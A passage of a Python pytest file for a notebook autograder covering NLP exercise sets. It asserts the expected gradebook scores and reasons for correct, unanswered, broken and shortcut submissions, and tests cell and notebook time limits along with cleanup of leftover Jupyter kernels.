    book = read_gradebook(gradebook.write_gradebook(grades, exercise, tmp_path / "gradebook.csv"))

    learner = read(executed / "correct.executed.ipynb")  # what the learner saw, cell by cell
    shown = check_outputs(learner)
    assert set(shown) == {q.name for q in exercise.auto_questions}
    for question, text in shown.items():
        assert "All test cases passed" in text, f"{question}: {text}"
    check_all = next(c for c in code_cells(learner) if c.source.strip() == "grader.check_all()")
    summary = "".join(o.get("data", {}).get("text/plain", "") for o in check_all.outputs)
    assert summary.count("All test cases passed") == len(exercise.auto_questions)
    auto = [q.name for q in exercise.auto_questions]
    full = gradebook.format_points(exercise.auto_points)

    correct = book["correct.ipynb"]
    assert [correct[q] for q in auto] == [gradebook.format_points(q.points) for q in exercise.auto_questions]
    assert correct["total"] == full and correct["reason"] == "", correct["reason"]
    unanswered = book["unanswered.ipynb"]
    assert [unanswered[q] for q in auto] == ["0"] * len(auto)
    assert unanswered["total"] == "0" and unanswered["reason"].startswith("unanswered")
    for question in exercise.manual_questions:  # left for a person, with the answer beside it
        assert correct[question.name] == "" and unanswered[question.name] == ""
        assert correct[f"{question.name}_answer"] == WRITTEN_ANSWER
        assert unanswered[f"{question.name}_answer"] == "(no answer)"

    if slug == "01_binary_sentiment":
        raises = book["raises.ipynb"]  # the split and the baseline (q2) were right: half of q2
        assert (raises["q1"], raises["q2"], raises["q3"], raises["total"]) == ("2", "1.5", "3", "6.5")
        assert "raised RuntimeError: my training loop is broken" in raises["reason"]
        assert "q2 1.5/3: AssertionError: q2: q2_predictions" in raises["reason"]
        assert "never set (the cell that sets it raised or did not run)" in raises["reason"]
        deleted = book["deleted_cells.ipynb"]
        assert (deleted["q1"], deleted["q3"]) == ("0", "3")
        assert "2 handed-out cell(s) deleted" in deleted["reason"]
        assert "q1 0/2: AssertionError: q1: id2label, label2id never set" in deleted["reason"]
        weighted = book["weighted_f1.ipynb"]  # the public check itself says what is wrong
        assert (
            weighted["q3"] != "3"
            and "macro-F1 is the plain mean of the three per-class F1" in weighted["reason"]
        )
        broken = book["not_a_notebook.ipynb"]
        assert broken["total"] == "0" and "not a readable notebook" in broken["reason"]
    if slug == "02_multiclass_imbalance":
        shortcuts = book["shortcuts.ipynb"]  # right numbers, but not their own work / no gain
        assert (shortcuts["q1"], shortcuts["q2"], shortcuts["q3"], shortcuts["total"]) == (
            "1.6",
            "2",
            "1",
            "4.6",
        )
        assert "q1 1.6/2: hidden test q1_own_implementation failed" in shortcuts["reason"]
        assert "q3 1/3: AssertionError: validation macro-F1" in shortcuts["reason"]
        assert "hidden test q3_beats_the_baseline_on_held_back_messages failed" in shortcuts["reason"]
    if slug == "03_multilabel":
        shortcuts = book["shortcuts.ipynb"]  # every value right, the own-work checks fail
        assert (shortcuts["q1"], shortcuts["q2"], shortcuts["total"]) == ("2.4", "1.5", "3.9")
        assert "q1 2.4/3: hidden test q1_own_and_fast failed" in shortcuts["reason"]
        assert "q2 1.5/2: hidden test q2_own_implementation failed" in shortcuts["reason"]
    if slug == "04_ner":
        shortcuts = book["shortcuts.ipynb"]  # q1 borrowed, q2 lenient: both caught by hidden tests
        assert (shortcuts["q1"], shortcuts["q2"], shortcuts["total"]) == ("2.25", "2.25", "4.5")
        assert "q1 2.25/3: hidden test q1_own_work failed" in shortcuts["reason"]
        assert "q2 2.25/3: hidden test q2_matches_seqeval failed" in shortcuts["reason"]
    if slug == "05_nli":
        # q1 truncates longest_first, which cuts the hypothesis too once the premise is as short;
        # only the pair that fits passes. q2 hands in a constant model and typed-in numbers (the
        # sanity checks are worth 0.25 each, the hidden tests the rest)
        shortcuts = book["shortcuts.ipynb"]
        assert (shortcuts["q1"], shortcuts["q2"], shortcuts["total"]) == ("0.25", "0.5", "0.75")
        assert "q1 0.25/3: AssertionError: the whole hypothesis should survive" in shortcuts["reason"]
        assert (
            "q2 0.5/3:" in shortcuts["reason"]
            and "hidden test q2_numbers_are_measured failed" in shortcuts["reason"]
        )
    if slug == "06_setfit":
        shortcuts = book["shortcuts.ipynb"]  # each passes its public checks and no hidden test
        assert (shortcuts["q1"], shortcuts["q2"], shortcuts["q3"], shortcuts["total"]) == (
            "0.5",
            "0.5",
            "0.5",
            "1.5",
        )
        assert "q1 0.5/3: hidden test q1_a_real_random_sample failed" in shortcuts["reason"]
        assert "q2 0.5/2: hidden test q2_every_k_and_every_class_count failed" in shortcuts["reason"]
        assert "q3 0.5/2: hidden test q3_tolerance_clock_and_refusal failed" in shortcuts["reason"]
    if slug == "07_zero_shot":
        shortcuts = book["shortcuts.ipynb"]  # each passes its public checks and no hidden test
        assert (shortcuts["q1"], shortcuts["q2"], shortcuts["total"]) == ("0.5", "1", "1.5")
        assert "q1 0.5/2: hidden test q1_counted_on_every_route failed" in shortcuts["reason"]
        assert "q2 1/3: hidden test q2_beats_the_default_on_held_back_messages failed" in shortcuts["reason"]
    if slug == "09_labels":
        word = book["word_not_rule.ipynb"]  # both pass their public checks, neither its hidden test
        assert (word["q1"], word["q3"], word["q4"], word["total"]) == ("0.5", "1", "2", "3.5")
        assert "q1 0.5/3: hidden test q1_agrees_with_the_reference_labelling failed" in word["reason"]
        assert "q3 1/3: hidden test q3_scores_are_the_models failed" in word["reason"]
    if slug == "10_choosing":
        guards = book["no_guards.ipynb"]
        assert (guards["q1"], guards["q3"], guards["total"]) == ("0.5", "1", "1.5")
        assert (
            "q1 0.5/3: hidden test q1_the_function_is_right_everywhere_and_refuses_nonsense failed"
            in guards["reason"]
        )
        assert (
            "q3 1/3: hidden test q3_no_nan_and_gradients_for_a_batch_without_one_task failed"
            in guards["reason"]
        )
        hides = book["hides_borrowing.ipynb"]  # the check reads the file, not the kernel's answer
        assert (hides["q1"], hides["q3"], hides["total"]) == ("0.5", "3", "3.5"), hides["reason"]
        assert hides["reason"] == (
            "q1 0.5/3: hidden test q1_the_function_is_right_everywhere_and_refuses_nonsense failed"
        )
    if slug == "quiz":
        assert correct["passed"] == "yes" and unanswered["passed"] == "no"
        assert (book["seven_right.ipynb"]["total"], book["seven_right.ipynb"]["passed"]) == ("7", "yes")
        assert (book["six_right.ipynb"]["total"], book["six_right.ipynb"]["passed"]) == ("6", "no")
        assert "q02 0/1: hidden test q02_answer failed" in book["six_right.ipynb"]["reason"]
        for row in book.values():  # hidden tests are named, never quoted
            assert "not the right" not in row["reason"]
        typo = book["typo_in_an_answer.ipynb"]
        assert typo["q01"] == "0" and typo["total"] == "9"
        assert "raised SyntaxError" in typo["reason"]
        blank = book["one_left_blank.ipynb"]  # named as a question left to do, not a TypeError
        assert blank["q04"] == "0" and blank["total"] == "9"
        assert "q04 0/1: AssertionError: q04 is not answered yet (q04 is still ...)" in blank["reason"]


def set_class(slug: str) -> type:
    """The slow tests of one set in a class of their own: pytest-xdist (``--dist loadscope``)
    hands out a class as one unit, so the sets spread over both workers and each set's build
    serves both of its tests."""

    class ExerciseSet:
        @pytest.mark.notebook
        @pytest.mark.parametrize("slug", [slug])
        def test_the_committed_student_version_is_current(self, exercise_build, slug):
            check_the_committed_student_version_is_current(exercise_build, slug)

        @pytest.mark.notebook
        @pytest.mark.parametrize("slug", [slug])
        def test_a_learner_sees_every_check_pass_and_the_gradebook_grades_the_class(
            self, exercise_build, slug, tmp_path
        ):
            check_a_learner_and_the_gradebook(exercise_build, slug, tmp_path)

    ExerciseSet.__name__ = ExerciseSet.__qualname__ = f"TestSet{slug.split('_', 1)[0].capitalize()}"
    return ExerciseSet


globals().update({cls.__name__: cls for cls in map(set_class, IDS)})


def our_kernels(since: float, scratch: Path) -> list:
    """Jupyter kernels started since ``since`` by grading runs whose scratch folders are under
    ``scratch`` (a kernel's connection file, on its command line, lies in its grading run's
    scratch folder): kernels of tests running beside this one in another worker do not count."""
    import psutil

    found = []
    for process in psutil.process_iter(["cmdline", "create_time"]):
        cmdline = process.info["cmdline"] or []
        if (
            process.info["create_time"] >= since
            and cmdline[:1] == [sys.executable]
            and "ipykernel_launcher" in cmdline
            and any(part.startswith(str(scratch)) for part in cmdline)  # its connection file
        ):
            found.append(process)
    return found


@pytest.mark.notebook
def test_time_limits_an_endless_cell_and_an_endless_notebook(exercise_build, tmp_path, monkeypatch):
    """A looping cell is interrupted and grading goes on; a hung notebook is killed, kernel too."""
    started = time.time()
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # grading's scratch folders go here
    quiz, build = BY_SLUG["quiz"], exercise_build("quiz")
    folder = write_folder(
        tmp_path / "loops",
        {
            "loops.ipynb": answered(build, {"q04-answer": "while True:\n    pass"}),
            "other_set.ipynb": read(BY_SLUG["01_binary_sentiment"].student_notebook),
        },
    )
    grades = gradebook.grade_folder(
        # 20 s a cell: the handed-out cells (importing otter) must finish even on a loaded 2-core
        # machine; with 5 s, a run beside a training in the other worker once lost them all
        folder,
        quiz,
        autograder_zip=build.autograder_zip,
        timeout=300,
        cell_timeout=20,
        jobs=2,
    )
    book = read_gradebook(gradebook.write_gradebook(grades, quiz, tmp_path / "gradebook.csv"))
    loops = book["loops.ipynb"]  # the cell is stopped, the rest of the notebook still counts
    assert (loops["q04"], loops["total"], loops["passed"]) == ("0", "9", "yes")
    assert "stopped at the per-cell time limit (20 s)" in loops["reason"]
    other = book["other_set.ipynb"]
    assert other["total"] == "0"
    assert other["reason"].startswith("another set's notebook: it was handed out for 01_binary_sentiment")

    folder = write_folder(
        tmp_path / "hangs", {"hangs.ipynb": answered(build, {"q04-answer": "while True:\n    pass"})}
    )
    with ThreadPoolExecutor(1) as pool:
        running = pool.submit(
            gradebook.grade_folder,
            folder,
            quiz,
            autograder_zip=build.autograder_zip,
            timeout=25,  # long enough for a sandboxed kernel to start on a busy machine
            cell_timeout=None,
        )
        seen = []
        while not seen and not running.done():  # the hung kernel is visible while it runs ...
            seen = our_kernels(started, scratch)
            time.sleep(0.25)
        (hangs,) = running.result()
    assert seen, "the check for surviving kernels never saw the running one"
    assert hangs.total == 0 and hangs.reasons[0].startswith("timed out: still running after 25 s")
    assert not our_kernels(started, scratch), "the kernel of a killed run survived"  # ... and gone
